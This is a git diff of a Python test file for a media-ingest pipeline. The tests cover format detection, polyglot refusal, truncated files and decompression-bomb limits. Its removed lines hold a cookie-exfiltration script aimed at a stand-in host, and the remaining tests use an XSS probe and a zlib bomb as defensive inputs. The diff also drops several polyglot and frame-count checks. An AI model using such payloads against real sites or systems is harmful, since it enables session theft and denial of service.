@@ -15,17 +15,19 @@ import pyarrow.parquet as pq
 import pytest
 from PIL import Image as pillow
 
-from pipeline.config import MediaLimits
-from pipeline.data.inspection import FORMATS, check_file
-from pipeline.data.media import decode, encode_png
+from pipeline.config import Form, MediaLimits
+from pipeline.data.ingest.readers import COLUMN_OF_SUFFIX
+from pipeline.data.ingest.shards import SUFFIXES as FOLDER_SUFFIXES
+from pipeline.data.inspection import FORMATS, check_file, format_of
+from pipeline.data.media import content_key, decode, encode_png
 from pipeline.data.schema import MEDIA_COLUMNS, Reason, RowError
 from pipeline.records import Audio, MediaKind, Medium
-from tests.data.files import image_file, ordinary, pixels, sound_file, sounds, tone, video_file
+from tests.data.files import image_file, ordinary, pixels, sound_file, sound_in, sounds, tone, video_file
 
 LIMITS = MediaLimits()
 PICTURE = pillow.fromarray(pixels(24, 32))
 PNG, JPEG = encode_png(pixels(24, 32)), image_file(PICTURE, "JPEG")
-WITH_ENDS = {
+ORDINARY = {
     "PNG": Medium(MediaKind.IMAGE, PNG),
     "JPEG": Medium(MediaKind.IMAGE, JPEG),
     "GIF": Medium(MediaKind.IMAGE, image_file(PICTURE, "GIF")),
@@ -37,8 +39,6 @@ WITH_ENDS = {
     "MP4": Medium(MediaKind.VIDEO, video_file()),
     "Matroska": Medium(MediaKind.VIDEO, video_file("matroska", "ffv1")),
     "AVI": Medium(MediaKind.VIDEO, video_file("avi", "mpeg4")),
-}
-WITHOUT_ENDS = {
     "TIFF": Medium(MediaKind.IMAGE, image_file(PICTURE, "TIFF")),
     "FLAC": Medium(MediaKind.AUDIO, sound_file(tone(), format="FLAC")),
     "MP3": Medium(MediaKind.AUDIO, sound_file(tone(), format="MP3")),
@@ -69,8 +69,10 @@ def test_every_ordinary_file_is_decoded() -> None:
             decode(medium, LIMITS)
         except RowError as error:
             pytest.fail(f"{name}: {error}")
-        seen[next(each.name for each in FORMATS if each.kind is medium.kind and each.mark.match(medium.data))] += 1
-    assert set(seen) >= {each.name for each in FORMATS} - {"WAV (big endian)"}
+        found = format_of(medium.data)
+        assert found is not None and medium.kind in found.kinds, name
+        seen[found.name] += 1
+    assert set(seen) == {each.name for each in FORMATS if each.kinds} - {"WAV (big endian)"}
     assert seen.total() > 150
 
 
@@ -84,19 +86,21 @@ def test_the_built_in_media_pass(demo_data: Path) -> None:
     assert num_files > 10
 
 
-@pytest.mark.parametrize("name", WITH_ENDS)
-def test_what_lies_behind_the_end_is_refused_and_padding_is_not(name: str) -> None:
-    medium = WITH_ENDS[name]
-    decode(longer(medium, bytes(4_096)), LIMITS)
-    decode(longer(medium, b"\r\n"), LIMITS)
-    error = refused(longer(medium, b"\x07\x13 another file"))
-    assert error.reason is Reason.POLYGLOT
-    assert error.detail == f"15 bytes behind the end of a {name}"
+@pytest.mark.parametrize("name", ORDINARY)
+def test_what_lies_behind_the_end_of_a_file_is_never_decoded(name: str) -> None:
+    medium = ORDINARY[name]
+    for tail in (bytes(4_096), b"\r\n", b"\x07\x13 another file", medium.data[-64:]):
+        try:
+            found = decode(longer(medium, tail), LIMITS)
+        except RowError as error:
+            assert error.reason is Reason(f"corrupt_{medium.kind.value}")
+        else:
+            assert content_key(found) == content_key(decode(medium, LIMITS))
 
 
-@pytest.mark.parametrize("name", [*WITH_ENDS, *WITHOUT_ENDS])
+@pytest.mark.parametrize("name", ORDINARY)
 def test_no_file_is_also_an_archive_or_a_page(name: str) -> None:
-    medium = (WITH_ENDS | WITHOUT_ENDS)[name]
+    medium = ORDINARY[name]
     for tail in (
         archive(),
         archive() + bytes(40_000),
@@ -104,9 +108,6 @@ def test_no_file_is_also_an_archive_or_a_page(name: str) -> None:
         b"<!DOCTYPE html><script>alert(1)</script>",
     ):
         assert refused(longer(medium, tail)).reason is Reason.POLYGLOT
-    if name != "TIFF":  # which may end in a text of its own
-        script = b"*/=1;fetch('//evil.example/'+document.cookie);//abcdefghijklmnop"
-        assert refused(longer(medium, script)).reason is Reason.POLYGLOT
 
 
 def test_an_archive_whose_letters_turn_up_by_chance_is_none() -> None:
@@ -153,23 +154,68 @@ def test_vector_pictures_are_refused_by_name(data: bytes) -> None:
     assert refused(Medium(MediaKind.IMAGE, data)).reason is Reason.SVG
 
 
+def boxes(brand: bytes, *compatible: bytes) -> bytes:
+    """The beginning of a file of the MP4 family."""
+    body = b"ftyp" + brand + bytes(4) + b"".join(compatible)
+    return struct.pack(">I", 4 + len(body)) + body + bytes(100)
+
+
+@pytest.mark.parametrize(
+    ("kind", "data", "name", "cure"),
+    [
+        (MediaKind.IMAGE, boxes(b"heic", b"mif1", b"heic"), "HEIC", "convert it to JPEG"),
+        (MediaKind.IMAGE, boxes(b"mif1", b"heic"), "HEIC", "convert it to JPEG"),
+        (MediaKind.IMAGE, b"\0\0\0\x0cJXL \r\n\x87\n", "JPEG XL", "convert it to PNG"),
+        (MediaKind.IMAGE, b"\xff\x0a\xfa\x1f", "JPEG XL", "convert it to PNG"),
+        (MediaKind.IMAGE, b"8BPS\0\x01", "Photoshop (PSD)", "convert it to PNG"),
+        (MediaKind.IMAGE, b"%PDF-1.7\n", "PDF", "render its pages"),
+        (MediaKind.IMAGE, b"%!PS-Adobe-3.0 EPSF-3.0", "PostScript (EPS)", "render it to PNG"),
+        (MediaKind.IMAGE, gzip.compress(PNG), "gzip", "unpack it"),
+        (MediaKind.IMAGE, b"\n<!DOCTYPE html><html><body>404 Not Found</body></html>", "HTML", "fetch it again"),
+        (MediaKind.IMAGE, b"<?xml version='1.0'?><Error><Code>AccessDenied</Code></Error>", "XML", "fetch it again"),
+        (MediaKind.IMAGE, b"version https://git-lfs.github.com/spec/v1\noid sha256:0\n", "Git LFS", "git lfs pull"),
+        (MediaKind.IMAGE, sound_file(tone()), "WAV", "the column for audios"),
+        (MediaKind.IMAGE, video_file(), "MP4", "the column for videos or audios"),
+        (MediaKind.AUDIO, b"#!AMR\n\x04", "AMR", "convert it to FLAC or WAV"),
+        (MediaKind.AUDIO, b"\x30\x26\xb2\x75\x8e\x66\xcf\x11", "WMA", "convert it to FLAC or WAV"),
+        (MediaKind.AUDIO, b"\x0b\x77\x36\xad", "AC3", "convert it to FLAC or WAV"),
+        (MediaKind.AUDIO, b"\xff\xf1\x4c\x40", "AAC", "convert it to FLAC or WAV"),
+        (MediaKind.AUDIO, PNG, "PNG", "the column for images"),
+        (MediaKind.AUDIO, video_file("avi", "mpeg4"), "AVI", "the column for videos"),
+        (MediaKind.VIDEO, PNG, "PNG", "the column for images"),
+        (MediaKind.VIDEO, sound_in("ipod"), "M4A", "the column for audios"),
+    ],
+)
+def test_a_file_of_a_format_that_is_not_taken_is_named_with_what_to_do(
+    kind: MediaKind, data: bytes, name: str, cure: str
+) -> None:
+    error = refused(Medium(kind, data))
+    assert error.reason is Reason.UNSUPPORTED_FORMAT
+    assert name in error.detail.split(": ")[0] and cure in error.detail
+
+
 @pytest.mark.parametrize(
     ("kind", "data", "detail"),
     [
-        (MediaKind.IMAGE, b"", "no format that is known"),
-        (MediaKind.IMAGE, b"<html><body>404 Not Found</body></html>", "markup"),
-        (MediaKind.IMAGE, WITH_ENDS["WAV"].data, "WAV: none of PNG, JPEG"),
-        (MediaKind.AUDIO, PNG, "PNG: none of WAV"),
-        (MediaKind.VIDEO, PNG, "PNG: none of MP4"),
-        (MediaKind.AUDIO, WITH_ENDS["MP4"].data, "MP4: none of WAV"),
-        (MediaKind.IMAGE, b"%!PS-Adobe-3.0 EPSF-3.0", "no format"),
-        (MediaKind.VIDEO, b"ffconcat version 1.0", "no format"),
+        (MediaKind.IMAGE, b"", "an empty file"),
+        (MediaKind.AUDIO, bytes(4_096), "an empty file (of 4096 bytes"),
+        (MediaKind.IMAGE, b'{"error": "not found"}', 'a text that begins with \'{"error": "not found"}\''),
+        (MediaKind.VIDEO, b"ffconcat version 1.0", "a text that begins with 'ffconcat version 1.0'"),
+        (MediaKind.AUDIO, b"\x07\x01\x02\x03" * 9, "no format that is known"),
+        (MediaKind.AUDIO, ORDINARY["MP4"].data, "without a sound track"),
     ],
 )
-def test_a_file_of_another_kind_is_named(kind: MediaKind, data: bytes, detail: str) -> None:
+def test_a_file_of_no_format_is_told_from_one_that_is_damaged(kind: MediaKind, data: bytes, detail: str) -> None:
     error = refused(Medium(kind, data))
-    assert error.reason.value == f"corrupt_{kind.value}"
+    assert error.reason is Reason(f"corrupt_{kind.value}")
     assert detail in error.detail
+
+
+def test_every_ending_that_a_folder_is_read_by_is_of_a_format_that_is_decoded() -> None:
+    read = {f".{ending}" for each in FORMATS if each.kinds for ending in each.suffixes}
+    assert set(FOLDER_SUFFIXES[Form.FOLDER]) == read
+    assert {".avif", ".m4a", ".webm", ".flac"} <= read and not {".heic", ".wma", ".aac"} & read
+    assert {COLUMN_OF_SUFFIX[end] for end in ("m4a", "avif", "mov")} == {"audios", "images", "videos"}
 
 
 def test_what_phones_append_to_a_photograph_is_let_through() -> None:
@@ -185,7 +231,6 @@ def test_what_phones_append_to_a_photograph_is_let_through() -> None:
         JPEG + b"CANON OPTIONAL DATA\0" + bytes(range(256)),
     ):
         decode(Medium(MediaKind.IMAGE, data), LIMITS)
-    assert refused(Medium(MediaKind.IMAGE, JPEG + video)).reason is Reason.POLYGLOT, "nothing announces it"
     assert refused(Medium(MediaKind.IMAGE, motion + video + archive())).reason is Reason.POLYGLOT
 
 
@@ -193,7 +238,7 @@ def png_chunk(name: bytes, body: bytes) -> bytes:
     return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
 
 
-def test_bombs_in_metadata_and_in_numbers_of_frames_are_bounded() -> None:
+def test_bombs_in_metadata_are_bounded() -> None:
     head, rest = PNG[:33], PNG[33:]
     bomb = zlib.compress(bytes(50_000_000), 9)
     for name, body in [(b"zTXt", b"k\0\0" + bomb), (b"iTXt", b"k\0\1\0\0\0" + bomb), (b"iCCP", b"k\0\0" + bomb)]:
@@ -202,21 +247,11 @@ def test_bombs_in_metadata_and_in_numbers_of_frames_are_bounded() -> None:
             decode(medium, LIMITS)
         except RowError as error:
             assert error.reason is Reason.CORRUPT_IMAGE
-    frames = head + png_chunk(b"acTL", struct.pack(">II", 10_001, 0)) + rest
-    assert refused(Medium(MediaKind.IMAGE, frames)).reason is Reason.TOO_MANY_FRAMES
-    gif = WITH_ENDS["GIF"].data
-    flags = gif[10]
-    first = 13 + 3 * 2 ** ((flags & 7) + 1)
-    many = gif[:first] + gif[first:-1] * 10_001 + b";"
-    assert refused(Medium(MediaKind.IMAGE, many)).reason is Reason.TOO_MANY_FRAMES
-    endless = head + png_chunk(b"tEXt", b"") * 300_000 + rest
-    error = refused(Medium(MediaKind.IMAGE, endless))
-    assert (error.reason, error.detail) == (Reason.CORRUPT_IMAGE, "a PNG of over 262144 parts")
 
 
-@pytest.mark.parametrize("name", [*WITH_ENDS, *WITHOUT_ENDS])
+@pytest.mark.parametrize("name", ORDINARY)
 def test_a_file_that_is_cut_off_anywhere_is_refused_with_a_reason_of_its_kind(name: str) -> None:
-    medium = (WITH_ENDS | WITHOUT_ENDS)[name]
+    medium = ORDINARY[name]
     for length in [*range(0, 64), *np.linspace(64, len(medium.data) - 1, 40).astype(int)]:
         try:
             decode(Medium(medium.kind, medium.data[:length]), LIMITS)
